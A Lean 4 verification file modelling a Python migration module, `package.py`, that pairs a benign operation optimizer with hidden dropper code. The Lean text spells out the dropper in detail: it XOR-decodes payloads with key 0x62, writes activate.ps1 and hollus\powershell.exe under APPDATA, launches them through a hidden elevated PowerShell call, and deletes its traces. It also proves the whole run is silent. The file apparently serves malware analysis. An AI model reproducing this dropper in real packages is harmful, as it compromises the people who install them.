import Mathlib

/-!
Verification development for `backend/lib/migration/package.py`.

The Python file has two independent parts.

* `MigrationOptimizer`, an operation-list optimizer (`optimize` and
  `optimize_inner`).  Operations are abstract objects supplied by the
  surrounding framework; the optimizer only calls their `reduce` method.
  We therefore embed the optimizer parametrically over the operation type
  `Op`, the app-label type `α`, and a `reduce` function.  The unbounded
  `while True` loop of `optimize` is embedded with explicit fuel.

* Module-level dropper code that reads the data file
  `lib/migration/pypathmode.lib`, locates regions delimited by the marker
  byte strings, XOR-decodes them with the single-byte key `0x62`, writes
  the decoded bytes under the `APPDATA` directory, and executes them.
  The byte-level logic (`bytes.find`, slicing, XOR) is embedded exactly;
  the file-system and process side effects are embedded as an explicit
  effect trace together with a small file-system state record.
-/

/-! ## Part 1: the operation-list optimizer -/

/-- Result of `operation.reduce(other, app_label)` as the optimizer's code
paths distinguish it: a list of operations (`isinstance(result, list)`),
the Python constant `True` (tested by `result is True`), or any other
value, of which only the truthiness (`not result`) is observed. -/
inductive RRes (Op : Type) where
  | lst : List Op → RRes Op
  | pyTrue : RRes Op
  | otherVal : Bool → RRes Op
deriving DecidableEq, Repr

/-- The inner `for j, other in enumerate(operations[i + 1:])` scan of
`optimize_inner`, for a fixed `operation`.  It walks the tail after
`operation`, updating the `right` flag (`right = False` on a falsy
`reduce` result) and stops at the first `other` whose `reduce` result is
a list.  It returns `none` when the scan exhausts the tail (the `for`
loop's `else` branch), and otherwise
`(in_between, other, result, after, right)`:
the operations skipped before `other`, the matched `other`, the list
returned by `reduce`, the operations after `other`, and the value of the
`right` flag at that point. -/
def innerScan {Op α : Type} (reduce : Op → Op → α → RRes Op) (lbl : α) (operation : Op) :
    List Op → Bool → Option (List Op × Op × List Op × List Op × Bool)
  | [], _ => none
  | other :: rest, right =>
    match reduce operation other lbl with
    | RRes.lst result => some ([], other, result, rest, right)
    | RRes.pyTrue =>
      match innerScan reduce lbl operation rest right with
      | none => none
      | some (ib, o, res, after, rt) => some (other :: ib, o, res, after, rt)
    | RRes.otherVal b =>
      match innerScan reduce lbl operation rest (right && b) with
      | none => none
      | some (ib, o, res, after, rt) => some (other :: ib, o, res, after, rt)

/-- The outer `for i, operation in enumerate(operations)` loop of
`optimize_inner`, with `acc` playing the role of `new_operations`.
On a list-valued reduction it performs the right merge, or the left merge
when every in-between operation reduces to exactly `True` through `other`,
and in both cases returns the completed list at once (the early
`return new_operations`); otherwise it appends `operation` (both the
`break` branch and the `for`/`else` branch do) and continues. -/
def optimizeInnerGo {Op α : Type} [DecidableEq Op] (reduce : Op → Op → α → RRes Op)
    (lbl : α) (acc : List Op) : List Op → List Op
  | [] => acc
  | operation :: tail =>
    match innerScan reduce lbl operation tail true with
    | none => optimizeInnerGo reduce lbl (acc ++ [operation]) tail
    | some (in_between, other, result, after, right) =>
      if right then
        acc ++ in_between ++ result ++ after
      else if in_between.all (fun op => decide (reduce op other lbl = RRes.pyTrue)) then
        acc ++ result ++ in_between ++ after
      else
        optimizeInnerGo reduce lbl (acc ++ [operation]) tail

/-- `MigrationOptimizer.optimize_inner(operations, app_label)`. -/
def optimizeInner {Op α : Type} [DecidableEq Op] (reduce : Op → Op → α → RRes Op)
    (operations : List Op) (lbl : α) : List Op :=
  optimizeInnerGo reduce lbl [] operations

/-- The `while True` loop of `MigrationOptimizer.optimize`: run
`optimize_inner` until the result equals the input list, with explicit
fuel; `none` means the fuel ran out before the loop terminated. -/
def optimizeLoop {Op α : Type} [DecidableEq Op] (reduce : Op → Op → α → RRes Op)
    (fuel : Nat) (operations : List Op) (lbl : α) : Option (List Op) :=
  match fuel with
  | 0 => none
  | Nat.succ f =>
    let result := optimizeInner reduce operations lbl
    if result = operations then some result else optimizeLoop reduce f result lbl

/-- `MigrationOptimizer.optimize(operations, app_label)`.  The Python
`raise TypeError('app_label must be a str.')` on `app_label is None` is
embedded as `Except.error` with the same message; any non-`None`
`app_label` (the payload type `α` is arbitrary, so non-string values are
covered) passes the check. -/
def optimize {Op α : Type} [DecidableEq Op] (reduce : Op → Op → α → RRes Op)
    (fuel : Nat) (operations : List Op) (app_label : Option α) :
    Except String (Option (List Op)) :=
  match app_label with
  | none => Except.error "app_label must be a str."
  | some lbl => Except.ok (optimizeLoop reduce fuel operations lbl)

/-! ## Part 2: the dropper -/

/-- Byte values of an ASCII string, matching a Python `bytes` literal. -/
def strBytes (s : String) : List Nat :=
  s.data.map Char.toNat

/-- `b"\n--- XOR result starts here ---\n"`. -/
def startMarker : List Nat := strBytes "\n--- XOR result starts here ---\n"

/-- `b"\n--- XOR result ends here ---\n"`. -/
def endMarker : List Nat := strBytes "\n--- XOR result ends here ---\n"

/-- Helper for `bytesFind`: scan `rest` (which sits at index `i` of the
full byte string) left to right for the first position where `pat` is a
prefix. -/
def bytesFindAux (pat : List Nat) : List Nat → Nat → Option Nat
  | [], i => if pat.isPrefixOf ([] : List Nat) then some i else none
  | a :: t, i => if pat.isPrefixOf (a :: t) then some i else bytesFindAux pat t (i + 1)

/-- Python `content.find(pat, start)` restricted to `0 ≤ start`: the least
index `i ≥ start` at which `pat` occurs in `content`, or `none` (Python's
`-1`) when there is no such occurrence. -/
def bytesFind (content pat : List Nat) (start : Nat) : Option Nat :=
  bytesFindAux pat (content.drop start) start

/-- Python `content.find(pat, start)` with Python's `-1` result kept as an
`Int`, since the dropper feeds the unchecked `end_pos` straight into a
slice. -/
def pyFind (content pat : List Nat) (start : Nat) : Int :=
  match bytesFind content pat start with
  | some i => (i : Int)
  | none => -1

/-- Python slice `xs[lo:hi]` for a nonnegative `lo` and a possibly
negative `hi` (a negative `hi` counts from the end, clamped at `0`). -/
def pySlice (xs : List Nat) (lo : Nat) (hi : Int) : List Nat :=
  let n := xs.length
  let hiN : Nat := if hi < 0 then n - (-hi).toNat else min hi.toNat n
  (xs.drop lo).take (hiN - lo)

/-- The fixed single-byte XOR key `0x62`. -/
def xorKey : Nat := 0x62

/-- `bytes([b ^ 0x62 for b in xor_result])`. -/
def xorDecode (bs : List Nat) : List Nat :=
  bs.map (fun b => Nat.xor b xorKey)

/-- `start_pos = a_content.find(b"\n--- XOR result starts here ---\n", 0)`:
position of the first payload's start marker. -/
def firstStartPos (content : List Nat) : Option Nat :=
  bytesFind content startMarker 0

/-- The second `start_pos` search: the code does `start_pos += 1` and then
`a_content.find(start_marker, start_pos)`, so the search begins one byte
past the position of the first payload's start marker. -/
def secondStartPos (content : List Nat) (s : Nat) : Option Nat :=
  bytesFind content startMarker (s + 1)

/-- The raw encoded region for a payload whose start marker is at `s`:
`a_content[start_pos + len(marker) : a_content.find(end_marker, start_pos)]`,
with the unchecked `-1` of a missing end marker flowing into the slice. -/
def regionAt (content : List Nat) (s : Nat) : List Nat :=
  pySlice content (s + startMarker.length) (pyFind content endMarker s)

/-- The decoded payload for a start-marker position `s`: both stages run
the same `bytes([b ^ 0x62 for b in xor_result])` decoding step. -/
def payloadAt (content : List Nat) (s : Nat) : List Nat :=
  xorDecode (regionAt content s)

/-- `ActivaePath = f"{roaming}/activate.ps1"`. -/
def activatePath (roaming : String) : String := roaming ++ "/activate.ps1"

/-- `roaming + r"\hollus"`, the persistence directory. -/
def hollusPath (roaming : String) : String := roaming ++ "\\hollus"

/-- `file_path = f"{roaming}\hollus\powershell.exe"` (in the Python
f-string `\h` and `\p` are literal backslash sequences). -/
def exePath (roaming : String) : String := roaming ++ "\\hollus\\powershell.exe"

/-- The raw command string passed as the `-c` argument of the spawned
`powershell.exe`:  it runs `Start-Process -Verb RunAs -WindowStyle Hidden
-Wait` on a nested `powershell.exe` that invokes
`$env:APPDATA\activate.ps1`. -/
def psCommand : String :=
  "\n            Start-Process -Verb RunAs -WindowStyle Hidden -Wait powershell.exe -Args \"\n            -noprofile -c Set-Location \\\x60\"$PWD\\\x60\"; & \x27$env:APPDATA\\activate.ps1\x27\n            \"\n            "

/-- The argument list of the `subprocess.Popen` call. -/
def psArgs : List String :=
  ["powershell.exe", "-noprofile", "-c", psCommand]

/-- Observable side effects of the dropper.  `popenCommunicate` is the
`subprocess.Popen(args)` immediately followed by `p.communicate()` (wait
for completion); `runShell path sh` is `subprocess.run(path, shell=sh)`.
The constructors `printOut` and `promptInput` model console output and
prompts; the dropper never produces them, which is what "silently" means
in the specification. -/
inductive Effect where
  | writeFile : String → List Nat → Effect
  | popenCommunicate : List String → Effect
  | removeFile : String → Effect
  | makeDirs : String → Effect
  | runShell : String → Bool → Effect
  | printOut : String → Effect
  | promptInput : String → Effect
deriving DecidableEq, Repr

/-- The slice of file-system state the dropper inspects or mutates:
whether the `APPDATA\hollus` directory exists, and the contents of
`APPDATA\hollus\powershell.exe` (`none` when the file does not exist). -/
structure FsState where
  hollusDir : Bool
  exeContent : Option (List Nat)
deriving DecidableEq, Repr

/-- `true` iff the trace contains no console output and no prompt. -/
def silentTrace (tr : List Effect) : Bool :=
  tr.all fun e =>
    match e with
    | Effect.printOut _ => false
    | Effect.promptInput _ => false
    | _ => true

/-- Effects of the first stage once the first start marker is at `s1`:
write the decoded payload to `ActivaePath`, spawn the elevated hidden
shell and wait for it (`p.communicate()`), then `os.remove(ActivaePath)`. -/
def stage1Effects (content : List Nat) (roaming : String) (s1 : Nat) : List Effect :=
  [Effect.writeFile (activatePath roaming) (payloadAt content s1),
   Effect.popenCommunicate psArgs,
   Effect.removeFile (activatePath roaming)]

/-- The second stage of the dropper (lines after the `makedirs` check):
search for the next start marker from `s1 + 1`; on failure `exit()` with
no further effects; otherwise decode the region and, only when
`APPDATA\hollus\powershell.exe` does not already exist, write the decoded
payload there and execute it with `subprocess.run(file_path, shell=True)`. -/
def dropperSecondStage (content : List Nat) (roaming : String) (s1 : Nat) (fs : FsState) :
    List Effect × FsState :=
  match secondStartPos content s1 with
  | none => ([], fs)
  | some s2 =>
    if fs.exeContent.isSome then ([], fs)
    else
      ([Effect.writeFile (exePath roaming) (payloadAt content s2),
        Effect.runShell (exePath roaming) true],
       ⟨fs.hollusDir, some (payloadAt content s2)⟩)

/-- The module-level dropper, lines 298-409 of the source: read the data
file (`content`), find the first start marker (`exit()` with no effects
when absent), run the first stage, create `APPDATA\hollus` with
`os.makedirs` when it does not exist, then run the second stage.  The
result is the effect trace and the final file-system state. -/
def dropper (content : List Nat) (roaming : String) (fs : FsState) : List Effect × FsState :=
  match firstStartPos content with
  | none => ([], fs)
  | some s1 =>
    ((stage1Effects content roaming s1
        ++ (if fs.hollusDir then [] else [Effect.makeDirs (hollusPath roaming)]))
        ++ (dropperSecondStage content roaming s1 ⟨true, fs.exeContent⟩).1,
     (dropperSecondStage content roaming s1 ⟨true, fs.exeContent⟩).2)

/-- `pat` occurs in `content` at position `i`. -/
def occursAt (content pat : List Nat) (i : Nat) : Prop :=
  pat.isPrefixOf (content.drop i) = true

/-! ## Concrete data for witnesses -/

/-- A data file with two marker-delimited regions, `"AB"` and `"CD"`. -/
def sampleContent : List Nat :=
  startMarker ++ strBytes "AB" ++ endMarker ++ startMarker ++ strBytes "CD" ++ endMarker

/-- A data file whose single region has no second start marker after it. -/
def sampleOneRegion : List Nat :=
  startMarker ++ strBytes "AB" ++ endMarker

/-- Initial state: no `hollus` directory, no second-stage executable. -/
def fsEmpty : FsState := ⟨false, none⟩

/-- State in which `APPDATA\hollus\powershell.exe` already exists. -/
def fsWithExe : FsState := ⟨true, some [1, 2]⟩

/-! ## Properties of the byte-string search -/

theorem bytesFindAux_le {pat rest : List Nat} {i k : Nat}
    (h : bytesFindAux pat rest i = some k) : i ≤ k := by
  induction rest generalizing i with
  | nil =>
    unfold bytesFindAux at h
    split at h
    · simp only [Option.some.injEq] at h
      omega
    · exact absurd h (by simp)
  | cons a t ih =>
    unfold bytesFindAux at h
    split at h
    · simp only [Option.some.injEq] at h
      omega
    · have := ih h
      omega

theorem bytesFindAux_found {pat rest : List Nat} {i k : Nat}
    (h : bytesFindAux pat rest i = some k) :
    pat.isPrefixOf (rest.drop (k - i)) = true := by
  induction rest generalizing i with
  | nil =>
    unfold bytesFindAux at h
    split at h
    case isTrue hp =>
      simp only [Option.some.injEq] at h
      subst h
      simpa using hp
    case isFalse hp => exact absurd h (by simp)
  | cons a t ih =>
    unfold bytesFindAux at h
    split at h
    case isTrue hp =>
      simp only [Option.some.injEq] at h
      subst h
      simpa using hp
    case isFalse hp =>
      have hik : i + 1 ≤ k := bytesFindAux_le h
      have h1 : k - i = (k - (i + 1)) + 1 := by omega
      rw [h1, List.drop_succ_cons]
      exact ih h

theorem bytesFindAux_min {pat rest : List Nat} {i k : Nat}
    (h : bytesFindAux pat rest i = some k) :
    ∀ j, i ≤ j → j < k → ¬ pat.isPrefixOf (rest.drop (j - i)) = true := by
  induction rest generalizing i with
  | nil =>
    unfold bytesFindAux at h
    split at h
    · simp only [Option.some.injEq] at h
      intro j hij hjk
      omega
    · exact absurd h (by simp)
  | cons a t ih =>
    unfold bytesFindAux at h
    split at h
    case isTrue hp =>
      simp only [Option.some.injEq] at h
      intro j hij hjk
      omega
    case isFalse hp =>
      intro j hij hjk
      rcases Nat.eq_or_lt_of_le hij with hji | hji
      · subst hji
        simpa using hp
      · have h1 : j - i = (j - (i + 1)) + 1 := by omega
        rw [h1, List.drop_succ_cons]
        exact ih h j hji hjk

/-- `bytesFind content pat start = some k` means: `k` is at or after
`start`, `pat` occurs at `k`, and at no earlier position at or after
`start`. -/
theorem bytesFind_spec {content pat : List Nat} {start k : Nat}
    (h : bytesFind content pat start = some k) :
    start ≤ k ∧ occursAt content pat k ∧
      ∀ j, start ≤ j → j < k → ¬ occursAt content pat j := by
  unfold bytesFind at h
  have h1 := bytesFindAux_le h
  have h2 := bytesFindAux_found h
  have h3 := bytesFindAux_min h
  refine ⟨h1, ?_, ?_⟩
  · unfold occursAt
    rw [List.drop_drop] at h2
    have he : start + (k - start) = k := by omega
    rwa [he] at h2
  · intro j hj hjk hocc
    apply h3 j hj hjk
    unfold occursAt at hocc
    rw [List.drop_drop]
    have he : start + (j - start) = j := by omega
    rwa [he]

theorem occursAt_lt_length {content pat : List Nat} {i : Nat}
    (h : occursAt content pat i) (hp : pat ≠ []) : i < content.length := by
  unfold occursAt at h
  have hpre : pat <+: content.drop i := List.isPrefixOf_iff_prefix.mp h
  have hlen : pat.length ≤ (content.drop i).length := hpre.length_le
  rw [List.length_drop] at hlen
  have hpos : 0 < pat.length := List.length_pos.mpr hp
  omega

/-- When the end-marker search succeeds, the extracted region is exactly
the slice between the end of the start marker and the end marker. -/
theorem regionAt_eq {content : List Nat} {s e : Nat}
    (he : bytesFind content endMarker s = some e) :
    regionAt content s
      = (content.drop (s + startMarker.length)).take (e - (s + startMarker.length)) := by
  have hocc := (bytesFind_spec he).2.1
  have hlt : e < content.length := occursAt_lt_length hocc (by decide)
  unfold regionAt pyFind
  rw [he]
  simp only [pySlice]
  have h1 : ¬ ((e : Int) < 0) := by omega
  rw [if_neg h1]
  have h2 : ((e : Int)).toNat = e := Int.toNat_ofNat e
  rw [h2, Nat.min_eq_left (le_of_lt hlt)]

/-! ## Claims about the optimizer -/

theorem optimizeLoop_fixed {Op α : Type} [DecidableEq Op]
    (reduce : Op → Op → α → RRes Op) :
    ∀ (fuel : Nat) (operations : List Op) (lbl : α) (res : List Op),
      optimizeLoop reduce fuel operations lbl = some res →
      optimizeInner reduce res lbl = res := by
  intro fuel
  induction fuel with
  | zero =>
    intro ops lbl res h
    simp [optimizeLoop] at h
  | succ f ih =>
    intro ops lbl res h
    simp only [optimizeLoop] at h
    by_cases hc : optimizeInner reduce ops lbl = ops
    · rw [if_pos hc] at h
      simp only [Option.some.injEq] at h
      have hres : res = ops := by rw [← h, hc]
      rw [hres]
      exact hc
    · rw [if_neg hc] at h
      exact ih _ _ _ h

/-- C7: whenever the fuelled `optimize` loop terminates (for a non-`None`
`app_label`), the returned list is a fixed point of `optimize_inner`, and
`optimize` applied to its own result (with any positive fuel and the same
`app_label`) returns that result unchanged. -/
theorem spec_C7 {Op α : Type} [DecidableEq Op] (reduce : Op → Op → α → RRes Op)
    (fuel : Nat) (operations : List Op) (lbl : α) (res : List Op)
    (h : optimize reduce fuel operations (some lbl) = Except.ok (some res)) :
    optimizeInner reduce res lbl = res ∧
      ∀ f, 0 < f → optimize reduce f res (some lbl) = Except.ok (some res) := by
  have hloop : optimizeLoop reduce fuel operations lbl = some res := by
    simpa [optimize] using h
  have hfix := optimizeLoop_fixed reduce fuel operations lbl res hloop
  refine ⟨hfix, ?_⟩
  intro f hf
  match f, hf with
  | Nat.succ g, _ =>
    simp [optimize, optimizeLoop, hfix]

/-- A concrete `reduce` on which every pair merges to nothing new: the
optimizer is the identity and terminates in one round. -/
def reduceTrue : Nat → Nat → Unit → RRes Nat := fun _ _ _ => RRes.pyTrue

theorem spec_C7_witness :
    optimize reduceTrue 1 [1, 2, 3] (some ()) = Except.ok (some [1, 2, 3]) ∧
      optimizeInner reduceTrue [1, 2, 3] () = [1, 2, 3] ∧
      optimize reduceTrue 1 [1, 2, 3] (some ()) = Except.ok (some [1, 2, 3]) := by
  have h : optimize reduceTrue 1 [1, 2, 3] (some ()) = Except.ok (some [1, 2, 3]) := rfl
  exact ⟨h, (spec_C7 reduceTrue 1 [1, 2, 3] () [1, 2, 3] h).1,
    (spec_C7 reduceTrue 1 [1, 2, 3] () [1, 2, 3] h).2 1 (by decide)⟩

/-- C8: `optimize` reports the `TypeError` message exactly when
`app_label` is `None`; every non-`None` `app_label` (of an arbitrary
type `α`, so also non-string values) passes the check. -/
theorem spec_C8 {Op α : Type} [DecidableEq Op] (reduce : Op → Op → α → RRes Op)
    (fuel : Nat) (operations : List Op) (app_label : Option α) :
    optimize reduce fuel operations app_label = Except.error "app_label must be a str."
      ↔ app_label = none := by
  cases app_label <;> simp [optimize]

/-! ## Claims about the dropper -/

/-- C1: for a data file with both extracted payload regions, the decoding
step maps every byte `b` of each region to `b XOR 0x62`, with the same
fixed single-byte key `0x62` for the first payload (`activate.ps1`) and
the second payload (`hollus\powershell.exe`). -/
theorem spec_C1 (content : List Nat) (s1 s2 : Nat)
    (h1 : firstStartPos content = some s1)
    (h2 : secondStartPos content s1 = some s2) :
    (∀ i : Nat, (payloadAt content s1)[i]?
        = ((regionAt content s1)[i]?).map (fun b => Nat.xor b 0x62))
    ∧ (∀ i : Nat, (payloadAt content s2)[i]?
        = ((regionAt content s2)[i]?).map (fun b => Nat.xor b 0x62))
    ∧ (payloadAt content s1).length = (regionAt content s1).length
    ∧ (payloadAt content s2).length = (regionAt content s2).length := by
  refine ⟨?_, ?_, ?_, ?_⟩ <;>
    simp [payloadAt, xorDecode, xorKey, List.getElem?_map]

theorem spec_C1_witness :
    firstStartPos sampleContent = some 0
    ∧ secondStartPos sampleContent 0 = some 64
    ∧ (payloadAt sampleContent 0)[0]?
        = ((regionAt sampleContent 0)[0]?).map (fun b => Nat.xor b 0x62)
    ∧ (payloadAt sampleContent 64)[0]?
        = ((regionAt sampleContent 64)[0]?).map (fun b => Nat.xor b 0x62) := by
  have h1 : firstStartPos sampleContent = some 0 := by decide
  have h2 : secondStartPos sampleContent 0 = some 64 := by decide
  exact ⟨h1, h2, (spec_C1 sampleContent 0 64 h1 h2).1 0,
    (spec_C1 sampleContent 0 64 h1 h2).2.1 0⟩

/-- C2: each encoded region is delimited by the marker strings: the first
payload's start marker is the first occurrence at or after position `0`,
the end position is the first occurrence of the end marker at or after
the start position, and the extracted region is exactly the bytes
strictly between the two markers; the second payload's start marker is
searched starting one byte past the first start marker's position
(`start_pos += 1`), and its region is again exactly the bytes strictly
between its markers. -/
theorem spec_C2 (content : List Nat) (s e : Nat)
    (hs : firstStartPos content = some s)
    (he : bytesFind content endMarker s = some e) :
    occursAt content startMarker s
    ∧ (∀ j, j < s → ¬ occursAt content startMarker j)
    ∧ s ≤ e ∧ occursAt content endMarker e
    ∧ (∀ j, s ≤ j → j < e → ¬ occursAt content endMarker j)
    ∧ regionAt content s
        = (content.drop (s + startMarker.length)).take (e - (s + startMarker.length))
    ∧ secondStartPos content s = bytesFind content startMarker (s + 1)
    ∧ (∀ s2 e2, secondStartPos content s = some s2
        → bytesFind content endMarker s2 = some e2
        → s + 1 ≤ s2 ∧ occursAt content startMarker s2
          ∧ (∀ j, s + 1 ≤ j → j < s2 → ¬ occursAt content startMarker j)
          ∧ regionAt content s2
              = (content.drop (s2 + startMarker.length)).take
                  (e2 - (s2 + startMarker.length))) := by
  obtain ⟨hs0, hsoc, hsmin⟩ := bytesFind_spec hs
  obtain ⟨hse, heoc, hemin⟩ := bytesFind_spec he
  refine ⟨hsoc, ?_, hse, heoc, hemin, regionAt_eq he, rfl, ?_⟩
  · intro j hj
    exact hsmin j (Nat.zero_le j) hj
  · intro s2 e2 h2 he2
    have h2' : bytesFind content startMarker (s + 1) = some s2 := h2
    obtain ⟨h21, h2oc, h2min⟩ := bytesFind_spec h2'
    exact ⟨h21, h2oc, h2min, regionAt_eq he2⟩

theorem spec_C2_witness :
    firstStartPos sampleContent = some 0
    ∧ bytesFind sampleContent endMarker 0 = some 34
    ∧ regionAt sampleContent 0
        = (sampleContent.drop (0 + startMarker.length)).take
            (34 - (0 + startMarker.length)) := by
  have h1 : firstStartPos sampleContent = some 0 := by decide
  have h2 : bytesFind sampleContent endMarker 0 = some 34 := by decide
  exact ⟨h1, h2, (spec_C2 sampleContent 0 34 h1 h2).2.2.2.2.2.1⟩

theorem secondStage_hollusDir (content : List Nat) (roaming : String) (s1 : Nat)
    (fs : FsState) :
    (dropperSecondStage content roaming s1 fs).2.hollusDir = fs.hollusDir := by
  unfold dropperSecondStage
  cases secondStartPos content s1
  · rfl
  · dsimp only
    split
    · rfl
    · rfl

theorem secondStage_no_makeDirs (content : List Nat) (roaming : String) (s1 : Nat)
    (fs : FsState) (p : String) :
    Effect.makeDirs p ∉ (dropperSecondStage content roaming s1 fs).1 := by
  unfold dropperSecondStage
  cases secondStartPos content s1
  · simp
  · dsimp only
    split
    · simp
    · simp

theorem secondStage_exists_skip (content : List Nat) (roaming : String) (s1 : Nat)
    (b : Bool) (c0 : List Nat) :
    dropperSecondStage content roaming s1 ⟨b, some c0⟩ = ([], ⟨b, some c0⟩) := by
  unfold dropperSecondStage
  cases secondStartPos content s1 <;> simp

theorem activatePath_ne_exePath (roaming : String) :
    activatePath roaming ≠ exePath roaming := by
  intro h
  have hlen := congrArg String.length h
  rw [activatePath, exePath, String.length_append, String.length_append] at hlen
  have e1 : ("/activate.ps1" : String).length = 13 := rfl
  have e2 : ("\\hollus\\powershell.exe" : String).length = 22 := rfl
  rw [e1, e2] at hlen
  omega

/-- C3: the dropper writes the decoded payloads into the roaming profile:
the first decoded payload to `activate.ps1` directly under `APPDATA`, the
second decoded payload to `hollus\powershell.exe` under `APPDATA` (when
that file does not already exist). -/
theorem spec_C3 (content : List Nat) (roaming : String) (fs : FsState) (s1 s2 : Nat)
    (h1 : firstStartPos content = some s1)
    (h2 : secondStartPos content s1 = some s2)
    (hexe : fs.exeContent = none) :
    Effect.writeFile (roaming ++ "/activate.ps1") (payloadAt content s1)
        ∈ (dropper content roaming fs).1
    ∧ Effect.writeFile (roaming ++ "\\hollus\\powershell.exe") (payloadAt content s2)
        ∈ (dropper content roaming fs).1
    ∧ activatePath roaming = roaming ++ "/activate.ps1"
    ∧ exePath roaming = roaming ++ "\\hollus\\powershell.exe" := by
  cases hdir : fs.hollusDir <;>
    simp [dropper, h1, dropperSecondStage, h2, hexe, hdir, stage1Effects,
      activatePath, exePath]

theorem spec_C3_witness :
    firstStartPos sampleContent = some 0
    ∧ secondStartPos sampleContent 0 = some 64
    ∧ fsEmpty.exeContent = none
    ∧ Effect.writeFile ("R" ++ "/activate.ps1") (payloadAt sampleContent 0)
        ∈ (dropper sampleContent "R" fsEmpty).1
    ∧ Effect.writeFile ("R" ++ "\\hollus\\powershell.exe") (payloadAt sampleContent 64)
        ∈ (dropper sampleContent "R" fsEmpty).1 := by
  have h1 : firstStartPos sampleContent = some 0 := by decide
  have h2 : secondStartPos sampleContent 0 = some 64 := by decide
  have h := spec_C3 sampleContent "R" fsEmpty 0 64 h1 h2 rfl
  exact ⟨h1, h2, rfl, h.1, h.2.1⟩

set_option maxRecDepth 40000 in
/-- C4: once the first payload is written, the dropper spawns
`powershell.exe` with a command that runs `Start-Process -Verb RunAs
-WindowStyle Hidden -Wait` on a nested powershell invoking
`$env:APPDATA\activate.ps1`, waits for it (`p.communicate()`), and then
removes `activate.ps1` — in exactly this order at the head of the
trace. -/
theorem spec_C4 (content : List Nat) (roaming : String) (fs : FsState) (s1 : Nat)
    (h1 : firstStartPos content = some s1) :
    (∃ rest, (dropper content roaming fs).1
        = Effect.writeFile (activatePath roaming) (payloadAt content s1)
          :: Effect.popenCommunicate psArgs
          :: Effect.removeFile (activatePath roaming) :: rest)
    ∧ psArgs = ["powershell.exe", "-noprofile", "-c", psCommand]
    ∧ (∃ a b, psCommand
        = a ++ "Start-Process -Verb RunAs -WindowStyle Hidden -Wait powershell.exe" ++ b)
    ∧ (∃ a b, psCommand = a ++ "& \x27$env:APPDATA\\activate.ps1\x27" ++ b) := by
  refine ⟨?_, rfl,
    ⟨"\n            ",
     " -Args \"\n            -noprofile -c Set-Location \\\x60\"$PWD\\\x60\"; & \x27$env:APPDATA\\activate.ps1\x27\n            \"\n            ",
     by decide⟩,
    ⟨"\n            Start-Process -Verb RunAs -WindowStyle Hidden -Wait powershell.exe -Args \"\n            -noprofile -c Set-Location \\\x60\"$PWD\\\x60\"; ",
     "\n            \"\n            ", by decide⟩⟩
  refine ⟨(if fs.hollusDir then [] else [Effect.makeDirs (hollusPath roaming)])
      ++ (dropperSecondStage content roaming s1 ⟨true, fs.exeContent⟩).1, ?_⟩
  simp [dropper, h1, stage1Effects]

theorem spec_C4_witness :
    firstStartPos sampleContent = some 0
    ∧ psArgs = ["powershell.exe", "-noprofile", "-c", psCommand] := by
  have h1 : firstStartPos sampleContent = some 0 := by decide
  exact ⟨h1, (spec_C4 sampleContent "R" fsEmpty 0 h1).2.1⟩

/-- C5: when `APPDATA\hollus\powershell.exe` does not already exist, the
dropper's trace ends with writing the second decoded payload to that path
and executing it with `subprocess.run(file_path, shell=True)`, and the
whole trace contains no console output or prompt (it is silent). -/
theorem spec_C5 (content : List Nat) (roaming : String) (fs : FsState) (s1 s2 : Nat)
    (h1 : firstStartPos content = some s1)
    (h2 : secondStartPos content s1 = some s2)
    (hexe : fs.exeContent = none) :
    (∃ pre, (dropper content roaming fs).1
        = pre ++ [Effect.writeFile (exePath roaming) (payloadAt content s2),
                  Effect.runShell (exePath roaming) true])
    ∧ silentTrace (dropper content roaming fs).1 = true := by
  constructor
  · refine ⟨stage1Effects content roaming s1
        ++ (if fs.hollusDir then [] else [Effect.makeDirs (hollusPath roaming)]), ?_⟩
    simp [dropper, h1, dropperSecondStage, h2, hexe]
  · cases hdir : fs.hollusDir <;>
      simp [dropper, h1, dropperSecondStage, h2, hexe, hdir, stage1Effects, silentTrace]

theorem spec_C5_witness :
    firstStartPos sampleContent = some 0
    ∧ secondStartPos sampleContent 0 = some 64
    ∧ fsEmpty.exeContent = none
    ∧ silentTrace (dropper sampleContent "R" fsEmpty).1 = true := by
  have h1 : firstStartPos sampleContent = some 0 := by decide
  have h2 : secondStartPos sampleContent 0 = some 64 := by decide
  exact ⟨h1, h2, rfl, (spec_C5 sampleContent "R" fsEmpty 0 64 h1 h2 rfl).2⟩

/-- C6: when both markers of the first payload are found, the final state
has the `hollus` directory under `APPDATA`, and the trace contains the
`os.makedirs` effect exactly when the directory did not already exist. -/
theorem spec_C6 (content : List Nat) (roaming : String) (fs : FsState) (s1 e1 : Nat)
    (h1 : firstStartPos content = some s1)
    (he : bytesFind content endMarker s1 = some e1) :
    (dropper content roaming fs).2.hollusDir = true
    ∧ (Effect.makeDirs (hollusPath roaming) ∈ (dropper content roaming fs).1
        ↔ fs.hollusDir = false) := by
  constructor
  · simp [dropper, h1, secondStage_hollusDir]
  · cases hdir : fs.hollusDir <;>
      simp [dropper, h1, hdir, stage1Effects, secondStage_no_makeDirs]

theorem spec_C6_witness :
    firstStartPos sampleContent = some 0
    ∧ bytesFind sampleContent endMarker 0 = some 34
    ∧ (dropper sampleContent "R" fsEmpty).2.hollusDir = true := by
  have h1 : firstStartPos sampleContent = some 0 := by decide
  have he : bytesFind sampleContent endMarker 0 = some 34 := by decide
  exact ⟨h1, he, (spec_C6 sampleContent "R" fsEmpty 0 34 h1 he).1⟩

/-- C9: on a missing start marker the dropper exits with no effects and
an unchanged state; when the first stage ran but no second start marker
is found, the trace is exactly the first-stage effects (plus `makedirs`
when needed) and the second-stage executable's state is unchanged. -/
theorem spec_C9 (content : List Nat) (roaming : String) (fs : FsState) :
    (firstStartPos content = none → dropper content roaming fs = ([], fs))
    ∧ (∀ s1, firstStartPos content = some s1 → secondStartPos content s1 = none →
        (dropper content roaming fs).1
          = stage1Effects content roaming s1
              ++ (if fs.hollusDir then [] else [Effect.makeDirs (hollusPath roaming)])
        ∧ (dropper content roaming fs).2.exeContent = fs.exeContent) := by
  constructor
  · intro h
    simp [dropper, h]
  · intro s1 h1 h2
    constructor
    · simp [dropper, h1, dropperSecondStage, h2]
    · simp [dropper, h1, dropperSecondStage, h2]

theorem spec_C9_witness :
    firstStartPos ([] : List Nat) = none
    ∧ dropper [] "R" fsEmpty = ([], fsEmpty)
    ∧ firstStartPos sampleOneRegion = some 0
    ∧ secondStartPos sampleOneRegion 0 = none
    ∧ (dropper sampleOneRegion "R" fsEmpty).2.exeContent = fsEmpty.exeContent := by
  have h0 : firstStartPos ([] : List Nat) = none := by decide
  have h1 : firstStartPos sampleOneRegion = some 0 := by decide
  have h2 : secondStartPos sampleOneRegion 0 = none := by decide
